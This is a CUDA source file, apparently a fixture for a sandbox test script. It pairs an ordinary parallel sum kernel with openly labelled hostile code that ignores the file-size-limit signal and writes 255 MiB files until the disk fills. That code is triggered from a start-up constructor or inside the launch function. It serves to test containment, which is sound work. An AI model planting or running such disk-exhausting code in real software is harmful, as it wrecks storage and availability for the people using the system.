// diskfill.cu — hostile host code: ignores the file size limit's signal and
// fills the disk with one 255 MiB file after another.  Contained: the work
// folder may grow by 1 GiB, then the sandbox is stopped.
// tests/own/sandbox_test.sh fills in when it strikes (@AT_START@, @IN_LAUNCH@).
#include <csignal>
#include <cstdio>
#include <cstring>

static void attack()
{
    static char chunk[1 << 20];
    memset(chunk, 'x', sizeof chunk);
    signal(SIGXFSZ, SIG_IGN);
    fprintf(stderr, "hostile diskfill: writing 255 MiB files until the disk is full\n");
    for (int k = 0; k < 1000; k++) {
        char name[32];
        snprintf(name, sizeof name, "fill%03d.bin", k);
        FILE *f = fopen(name, "wb");
        if (!f) break;
        for (int mib = 0; mib < 255; mib++) fwrite(chunk, 1, sizeof chunk, f);
        fclose(f);
    }
    fprintf(stderr, "hostile diskfill: wrote 1000 files of 255 MiB\n");
}

__attribute__((constructor)) static void at_start()
{
    if (@AT_START@) attack();
}

__global__ void sum_blocks(const float *in, float *out, unsigned int n)
{
    __shared__ float s[1024];
    unsigned int t = threadIdx.x, i = blockIdx.x * blockDim.x * 2 + t;
    s[t] = (i < n ? in[i] : 0.0f) + (i + blockDim.x < n ? in[i + blockDim.x] : 0.0f);
    __syncthreads();
    for (unsigned int h = blockDim.x / 2; h > 0; h /= 2) {
        if (t < h) s[t] += s[t + h];
        __syncthreads();
    }
    if (t == 0) out[blockIdx.x] = s[0];
}

unsigned int launch(const float *in, float *out, unsigned int n, unsigned int block, cudaStream_t stream)
{
    static bool struck = false;
    if (@IN_LAUNCH@ && !struck) struck = true, attack();
    unsigned int grid = (n + 2 * block - 1) / (2 * block);
    sum_blocks<<<grid, block, 0, stream>>>(in, out, n);
    return grid;
}
